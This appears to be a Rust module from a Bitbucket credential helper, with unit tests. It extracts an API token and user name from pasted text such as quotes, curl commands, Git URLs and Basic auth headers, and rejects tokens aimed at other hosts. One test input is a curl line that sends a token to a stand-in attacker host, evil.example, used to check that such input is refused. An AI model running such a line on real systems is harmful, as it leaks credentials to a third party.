//! What people paste or set where a token belongs: a token with quotes, a name, a URL or a header around it.

use std::ops::Range;
use std::str;

use crate::bitbucket::host::home_of;
use crate::bitbucket::kind::static_usernames;
use crate::bitbucket::tokens::{is_complete, parts_of, put_right, tokens_in};
use crate::git::url::urls_in;
use crate::git::{Host, Url, Username, of_basic};
use crate::sys::{Secret, SecretBuffer};

/// A secret, and the user name or e-mail that stood beside it.
pub(crate) type Pasted = (Secret, Option<Username>);

/// Finds the token in a text that holds exactly one known prefix at a word's start. Any other text is the secret as it
/// stands, less the white space around it. A token in a URL of another host is an error, with that host.
pub(crate) fn understood(text: &Secret, host: &Host) -> Result<Pasted, Host> {
    let bytes = text.expose();
    let place = place_of_token(bytes);
    // Mostly there is a token and nothing else.
    if place == Some(0..bytes.len()) && bytes.iter().copied().all(parts_of(bytes)) {
        return Ok((text.clone(), None));
    }
    let url = place.and_then(|place| url_around(bytes, &place));
    let found = match &url {
        None => token(bytes).map(|secret| (secret, email(bytes))),
        Some(url) => match url.host() {
            Some(other) if home_of(&other) != home_of(host) => return Err(other),
            _ => of_url(url),
        },
    };
    let found = found.or_else(|| of_header(bytes));
    Ok(found.unwrap_or_else(|| (text.trimmed(), None)))
}

/// What somebody pasted, with the line breaks and zero-width characters taken out of its token.
pub(crate) fn joined(text: &Secret) -> Secret {
    const ZERO_WIDTH: [char; 6] = [
        '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{ad}',
    ];
    let shown = str::from_utf8(text.expose()).unwrap_or_default();
    let (mut plain, mut whole) = (SecretBuffer::default(), SecretBuffer::default());
    shown
        .split(ZERO_WIDTH)
        .for_each(|part| plain.extend(part.as_bytes()));
    let Some(place) = place_of_token(&plain) else {
        return text.clone();
    };
    let (before, rest) = plain.split_at(place.start);
    let token = &rest[..place.len()];
    let is_break = |byte: &u8| b"\r\n".contains(byte);
    let is_part = parts_of(token);
    // Only what is token to its end goes on behind a line break.
    let is_broken = !is_complete(token) && rest.iter().all(|byte| is_part(*byte) || is_break(byte));
    whole.extend(before);
    rest.split(|byte| is_broken && is_break(byte))
        .for_each(|line| whole.extend(line));
    whole.into()
}

/// Where the only token of a text stands.
fn place_of_token(text: &[u8]) -> Option<Range<usize>> {
    let mut tokens = tokens_in(text);
    tokens.next().filter(|_| tokens.next().is_none())
}

/// The only token of a text. None where a line break may be in it.
fn token(text: &[u8]) -> Option<Secret> {
    let place = place_of_token(text)?;
    let is_part = parts_of(&text[place.clone()]);
    let rest = &text[place.start..];
    let token = rest.split(|byte| !is_part(*byte)).next()?;
    let behind = &rest[token.len()..];
    let next = behind.trim_ascii_start().first();
    let is_broken = behind.starts_with(b"\n") && next.is_some_and(|byte| is_part(*byte));
    (!is_broken || is_complete(token)).then(|| Secret::new(token.to_vec()))
}

/// The URL that holds what stands at a place.
fn url_around<'a>(text: &'a [u8], place: &Range<usize>) -> Option<Url<'a>> {
    let holds = |(start, url): &(usize, &str)| (*start..start + url.len()).contains(&place.start);
    Url::parse(urls_in(text).find(holds)?.1)
}

/// The token that a URL holds, and the user name beside it.
fn of_url(url: &Url<'_>) -> Option<Pasted> {
    let (name, secret) = match (url.username(), url.password()) {
        (Some(token), None) => (None, token),
        (name, password) => {
            let name = name.and_then(|name| Username::new(name.expose()));
            put_right(name, password?)
        }
    };
    Some((token(secret.expose())?, own(name)))
}

/// The user name, if it is nobody's but one person's.
fn own(name: Option<Username>) -> Option<Username> {
    name.filter(|name| !static_usernames().contains(&name.as_slice()))
}

/// What `Authorization: Basic …` holds. Without a token in it, what follows `Basic` alone may be a password.
fn of_header(text: &[u8]) -> Option<Pasted> {
    let text = str::from_utf8(text).ok()?;
    let is_around = |letter: char| letter.is_ascii_whitespace() || "'\":".contains(letter);
    let mut words = text.split(is_around).filter(|word| !word.is_empty());
    let is = |wanted: &'static str| move |word: &&str| word.eq_ignore_ascii_case(wanted);
    let is_header = words.clone().any(|word| is("authorization")(&word));
    words.find(is("basic"))?;
    let (name, password) = of_basic(words.next()?)?;
    let (name, secret) = put_right(name, password);
    let token = token(secret.expose());
    Some((token.or_else(|| is_header.then_some(secret))?, own(name)))
}

/// The only e-mail in a text.
fn email(text: &[u8]) -> Option<Username> {
    let is_end = |byte: &u8| byte.is_ascii_whitespace() || b"\"'`<>(),;:=".contains(byte);
    let is_email = |word: &&[u8]| {
        let parts: Vec<&[u8]> = word.splitn(3, |byte| *byte == b'@').collect();
        matches!(parts[..], [[_, ..], host] if host.contains(&b'.'))
    };
    let mut emails = text.split(is_end).filter(is_email);
    Username::new(emails.next().filter(|_| emails.next().is_none())?)
}

#[cfg(test)]
mod tests {
    use base64ct::{Base64, Encoding as _};

    use super::{joined, understood};
    use crate::bitbucket::host::cloud;
    use crate::git::context::Host;
    use crate::git::username::Username;
    use crate::sys::secret::Secret;

    const TOKEN: &str = "ATATT3xFfGF0canary-api-token=0A1B2C3D";

    fn read(text: &Secret, host: &Host) -> Result<(String, Option<String>), String> {
        let (secret, name) = understood(text, host).map_err(|host| host.to_string())?;
        let secret = String::from_utf8(secret.expose().to_vec()).expect("text");
        Ok((secret, name.as_ref().map(Username::to_string)))
    }

    fn secret(text: &str) -> Secret {
        Secret::new(text.replace('§', TOKEN).into_bytes())
    }

    #[test]
    fn a_token_is_found_in_what_stands_around_it() {
        let encoded = TOKEN.replace('=', "%3D");
        for (text, name) in [
            ("§", None),
            (" \t§\r\n", None),
            ("\u{feff}§", None),
            ("\"§\"", None),
            ("`§`.", None),
            ("“§”", None),
            ("token: §", None),
            ("bitbucket:§", None),
            ("export BITBUCKET_API_TOKEN='§'", None),
            ("BITBUCKET_API_TOKEN=§ # until May", None),
            ("\"token\": \"§\",", None),
            ("Authorization: Bearer §", None),
            (
                "curl -H 'Authorization: Bearer §' https://api.bitbucket.org/2.0/user",
                None,
            ),
            (
                "curl -u ada@example.com:§ https://api.bitbucket.org/2.0/user",
                Some("ada@example.com"),
            ),
            ("ada@example.com §", Some("ada@example.com")),
            ("§\nada@example.com\n", Some("ada@example.com")),
            ("Ada <ada@example.com>, bob@example.com: §", None),
            ("https://x-token-auth:§@bitbucket.org/acme/app.git", None),
            (
                &format!(
                    "git clone https://ada%40example.com:{encoded}@bitbucket.org/acme/app.git"
                ),
                Some("ada@example.com"),
            ),
            (
                &format!("https://ada:{encoded}@BitBucket.org:443/acme/app"),
                Some("ada"),
            ),
            ("https://§:x-oauth-basic@bitbucket.org/acme/app.git", None),
            ("https://§@bitbucket.org/acme/app.git", None),
        ] {
            let expected = Ok((TOKEN.to_owned(), name.map(str::to_owned)));
            let text = secret(text);
            assert_eq!(read(&text, &cloud()), expected);
            assert_eq!(read(&joined(&text), &cloud()), expected);
        }
    }

    #[test]
    fn a_basic_header_is_read() {
        let basic = |pair: &str| {
            let encoded = Base64::encode_string(pair.replace('§', TOKEN).as_bytes());
            [
                format!("Authorization: Basic {encoded}"),
                format!(
                    "curl -H 'authorization:basic  {encoded}' https://api.bitbucket.org/2.0/user"
                ),
            ]
        };
        for (pair, found, name) in [
            ("ada@example.com:§", TOKEN, Some("ada@example.com")),
            ("x-bitbucket-api-token-auth:§", TOKEN, None),
            ("§:x-oauth-basic", TOKEN, None),
            ("ada:hunter2", "hunter2", Some("ada")),
        ] {
            for text in basic(pair) {
                let expected = Ok((found.to_owned(), name.map(str::to_owned)));
                assert_eq!(read(&secret(&text), &cloud()), expected, "{text}");
            }
        }
        let bare = format!("Basic {}", Base64::encode_string(b"ada:hunter2"));
        assert_eq!(read(&secret(&bare), &cloud()), Ok((bare, None)));
    }

    #[test]
    fn only_a_person_breaks_a_token_over_lines() {
        let (first, second) = TOKEN.split_at(24);
        let (second, third) = second.split_at(5);
        let whole = Ok((TOKEN.to_owned(), None));
        for text in [
            format!("{first}\n{second}{third}"),
            format!("my\ntoken: {first}\r\n{second}\r\n{third}\r\n"),
            format!("{first}\u{200b}{second}\u{feff}{third}"),
        ] {
            let text = secret(&text);
            assert_eq!(read(&joined(&text), &cloud()), whole);
            assert_ne!(read(&text, &cloud()), whole);
        }
        let words = secret(&format!("{first}\nsecond line"));
        assert_eq!(joined(&words), words);
        let complete = secret("§\nmore\n");
        assert_eq!(read(&joined(&complete), &cloud()), whole);
    }

    #[test]
    fn anything_else_is_the_secret_as_it_stands() {
        for text in [
            "hunter2",
            "a \"quoted\" password",
            "KEY=value",
            "x: y@z.example",
            "https://ada:hunter2@other.example/",
            "Basic YWRhOmh1bnRlcjI=",
            "ATAT ATBBshort",
            "x§",
            "§ §",
            "\u{feff}hunter2",
        ] {
            let found = read(&joined(&secret(&format!(" {text}\r\n"))), &cloud());
            assert_eq!(found, Ok((text.replace('§', TOKEN), None)), "{text}");
        }
    }

    #[test]
    fn a_url_of_another_host_is_refused() {
        let corp: Host = "git.corp.example:7990".parse().expect("a host");
        for (text, host, other) in [
            (
                "https://ada:§@git.corp.example/acme/app",
                &cloud(),
                "git.corp.example",
            ),
            (
                "curl https://evil.example/?token=§",
                &cloud(),
                "evil.example",
            ),
            (
                "https://ada:§@bitbucket.org/acme/app",
                &corp,
                "bitbucket.org",
            ),
            (
                "https://§@git.corp.example/acme/app",
                &corp,
                "git.corp.example",
            ),
        ] {
            let found = read(&secret(text), host);
            assert_eq!(found, Err(other.to_owned()), "{text}");
        }
        let text = "https://ada:BBDC-0123456789+abcdefg%2F@git.corp.example:7990/scm/a/b.git";
        let found = read(&secret(text), &corp);
        let token = "BBDC-0123456789+abcdefg/".to_owned();
        assert_eq!(found, Ok((token, Some("ada".to_owned()))));
    }
}
